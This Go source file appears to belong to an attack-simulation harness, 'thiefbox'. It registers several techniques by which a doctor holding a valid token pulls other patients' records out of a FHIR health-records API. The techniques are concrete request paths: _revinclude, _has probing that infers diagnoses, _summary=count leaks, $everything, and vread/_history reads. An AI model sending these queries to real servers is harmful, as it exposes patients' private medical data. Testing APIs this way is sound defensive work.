package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
)

// A patient's record leaves an API by many doors, and an API forgets one of them, not all. In each of these the
// thief is a doctor with an app and a valid token of his own, nothing is stolen, and he sends one request that
// a real client might send too.

var _ = register("F-04", Technique{
	Variant: "revinclude",
	Title:   "A doctor's name brings her patients along",
	Story: "Professionals are nobody's records, and everybody with a token may look one up. The thief looks another doctor up and asks for " +
		"whatever refers to her: her patients do.",
	Reads:  []string{"FHIR R4 search, _revinclude", "microsoft/fhir-server PR #5683"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run:    asks(func(Ground) string { return "/Practitioner?_revinclude=Patient:general-practitioner" }),
})

var _ = register("F-05", Technique{
	Variant: "has",
	Title:   "A question about a record that is never shown",
	Story: "The thief searches for doctors, whom he may see, by what stands in the records of their patients, whom he may not. Nobody's record " +
		"is shown; that a doctor is found is the answer. Asked once for each code, it tells a diagnosis.",
	Reads:  []string{"hapi-fhir #6065", "FHIR R4 search, _has"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run: asks(func(g Ground) string {
		return "/Practitioner?_has:Patient:general-practitioner:_id=" + url.QueryEscape(stranger(g))
	}),
})

var _ = register("F-05/count", Technique{
	Variant: "count",
	Title:   "A number above an empty page",
	Story: "The thief asks how many diagnoses a stranger has, and for none of them to be shown. The page is empty, as it should be; the number " +
		"above it is not.",
	Reads:  []string{"FHIR R4 search, _summary=count", "OWASP API3:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run: asks(func(g Ground) string {
		return "/Condition?patient=" + url.QueryEscape(stranger(g)) + "&_summary=count"
	}),
})

var _ = register("F-09", Technique{
	Variant: "everything",
	Title:   "One operation gathers a stranger's whole record",
	Story:   "The thief asks for everything there is about a patient who is not his. Operations have code of their own, and it forgets to ask.",
	Reads:   []string{"FHIR R4 Patient-everything", "OWASP API1:2023"},
	Has:     []event.Asset{event.OwnClient},
	Beyond:  beyondObjects,
	Run:     asks(func(g Ground) string { return "/Patient/" + stranger(g) + "/$everything" }),
})

var _ = register("F-19", Technique{
	Variant: "vread",
	Title:   "What a record used to say",
	Story:   "The thief may not read a stranger's record, and asks for its first version instead.",
	Reads:   []string{"FHIR R4 http, vread", "OWASP API1:2023"},
	Has:     []event.Asset{event.OwnClient},
	Beyond:  beyondObjects,
	Run:     asks(func(g Ground) string { return "/Patient/" + stranger(g) + "/_history/1" }),
})

var _ = register("F-19/history", Technique{
	Variant: "history",
	Title:   "What all records used to say",
	Story:   "The thief asks for the history of all diagnoses: whatever was written, by whom it may concern.",
	Reads:   []string{"FHIR R4 http, history", "OWASP API1:2023"},
	Has:     []event.Asset{event.OwnClient},
	Beyond:  beyondObjects,
	Run:     asks(func(Ground) string { return "/Condition/_history?_count=250" }),
})

// asks is a technique that signs in and sends one question.
func asks(question func(Ground) string) func(context.Context, Ground) error {
	return func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, g.Target().FHIRBase+question(g), t)
		return err
	}
}
